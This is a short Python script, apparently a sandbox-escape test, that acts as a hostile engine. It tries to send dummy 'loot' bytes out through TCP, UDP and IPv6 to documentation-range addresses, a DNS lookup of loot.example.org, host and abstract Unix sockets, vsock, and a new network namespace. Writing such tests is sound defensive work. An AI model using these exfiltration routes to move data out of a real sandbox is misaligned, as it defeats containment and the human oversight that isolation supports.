"""An engine that sends what it reads to somebody. Exit code 0 means that something left the sandbox."""

import os
import socket
import sys
from collections.abc import Callable

LOOT = b"first bytes of an input"


def main() -> int:
    """Try every way out that a process has; return 0 if one worked."""
    for name, attempt in (
        ("TCP", lambda: socket.create_connection(("198.51.100.7", 443), timeout=2).sendall(LOOT)),
        (
            "TCP to the machine itself",
            lambda: socket.create_connection(("127.0.0.1", 22), timeout=2).sendall(LOOT),
        ),
        ("UDP", lambda: _datagram(socket.AF_INET, ("198.51.100.7", 53))),
        ("IPv6", lambda: _datagram(socket.AF_INET6, ("2001:db8::7", 53))),
        ("a name look-up", lambda: socket.getaddrinfo("loot.example.org", 443)),
        ("a Unix socket of the host", lambda: _unix("/run/systemd/journal/socket")),
        ("an abstract Unix socket", lambda: _unix("\0cloister-attack")),
        ("vsock to the host", lambda: socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM)),
        ("a new network namespace", lambda: _unshare()),
    ):
        if _works(name, attempt):
            return 0
    return 1


def _works(name: str, attempt: Callable[[], object]) -> bool:
    try:
        attempt()
    except OSError as error:
        print(f"{name}: refused ({error.strerror or error})")
        return False
    print(f"{name}: ESCAPED")
    return True


def _datagram(family: int, address: tuple[str, int]) -> None:
    with socket.socket(family, socket.SOCK_DGRAM) as connection:
        connection.sendto(LOOT, address)


def _unix(address: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(address)


def _unshare() -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x40000000) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


if __name__ == "__main__":
    sys.exit(main())
